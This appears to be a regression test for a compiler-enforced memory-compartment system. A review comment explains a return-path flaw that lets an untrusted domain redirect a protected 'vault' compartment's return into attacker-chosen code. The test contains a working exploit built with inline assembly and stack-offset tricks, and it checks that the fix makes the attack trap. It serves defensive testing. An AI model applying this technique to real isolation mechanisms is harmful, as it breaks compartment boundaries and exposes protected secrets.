// Review (attackB): __bulkhead_return_to_index, the way back of the
// run-time-chosen trampolines and of bh_as_default, accepts any place in
// compartment i's arena that holds {i, i's cookie}. A *static* trampoline
// out of i also leaves i's cookie on i's stack (with i's callee-saved
// registers above it), and the word just below it is dead stack: 0, the
// index of the first compartment, on a fresh stack. So while the vault is
// called out (here: to a logging function of the default domain), the
// default domain -- controlling its own program counter -- jumps to
// __bulkhead_return_to_index with rdi = 0 and r11 = (the vault's saved
// stack pointer, which the static trampoline left on the key-0 stack) - 8.
// The gate into the vault passes, the record check passes, and the pops are
// one word off: the final `ret` takes the word above the static
// trampoline's return address, i.e. the vault's own frame, here the first 8
// bytes of a request it copied from its caller. The vault then runs code of
// the attacker's choice with its rights, on its own stack.
//
// Contradicts docs/threat-model.md ("a compartment's saved stack pointer
// ... is used on the way back only where it points at that compartment's
// random cookie ...: pointing it at any other word of the compartment's
// stack, such as data it copied from its input, traps instead of returning
// through that data with the compartment's rights") and "the callee could
// only make it resume at another call of that compartment still in
// progress".
// Fixed: static frames hold the cookie marked (BH_STATIC_FRAME_MARK), which
// the run-time way back refuses. Before: exit 7 and the secret printed.
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t
// RUN: %run %t | FileCheck %s
// CHECK-NOT: vault-secret
// CHECK: attacks-review-pc-static-record: ok
#include "Inputs/check.h"

BULKHEAD_DATA(vault) static char secret[32] = "vault-secret-7c2a\n";

/* Any code of the vault will do; this one shows its rights plainly. */
BULKHEAD_INTERNAL(vault) __attribute__((noinline, used)) void vault_leak(void) {
  write(1, secret, 18);
  _exit(7);
}

void app_log(const char *msg);

/* The vault copies a request and logs it through the default domain. */
BULKHEAD_ENTRY(vault) int vault_handle(const char *req) {
  char buf[32];
  for (int k = 0; k < 32; k++)
    buf[k] = req[k];
  app_log(buf);
  return buf[0];
}

/* Default domain, attacker-controlled. Called by the static trampoline
 * __bulkhead_tramp.app_log.vault.0, which left, 32 bytes above our return
 * address, the vault's stack pointer (pointing at the vault's cookie). */
__attribute__((noinline)) void app_log(const char *msg) {
  (void)msg;
  uintptr_t *fp = __builtin_frame_address(0);
  uintptr_t vault_sp = fp[1 + 4];
  uintptr_t below = vault_sp - 8; /* dead stack of the vault: must hold 0 */
  fprintf(stderr, "vault sp %#lx\n", (unsigned long)vault_sp);
  __asm__ volatile("xorl %%edi, %%edi\n\t"
                   "movq %0, %%r11\n\t"
                   "xorl %%r10d, %%r10d\n\t"
                   "xorl %%r8d, %%r8d\n\t"
                   "jmp __bulkhead_return_to_index\n"
                   :
                   : "r"(below)
                   : "memory");
  __builtin_unreachable();
}

int main(void) {
  uintptr_t leak;
  __asm__("leaq vault_leak(%%rip), %0" : "=r"(leak)); /* from the binary's layout */
  char req[32] = {0};
  memcpy(req, &leak, sizeof leak);
  fflush(stdout);
  pid_t pid = fork();
  if (pid == 0) {
    int r = vault_handle(req);
    printf("vault_handle: %d\n", r);
    _exit(0);
  }
  int status;
  waitpid(pid, &status, 0);
  /* Fixed: a static trampoline's frame is not a record (its cookie is
   * marked, include/bulkhead/abi.h): the way back refuses it. */
  CHECK(WIFSIGNALED(status) && WTERMSIG(status) == SIGILL);
  puts("attacks-review-pc-static-record: ok");
  return 0;
}
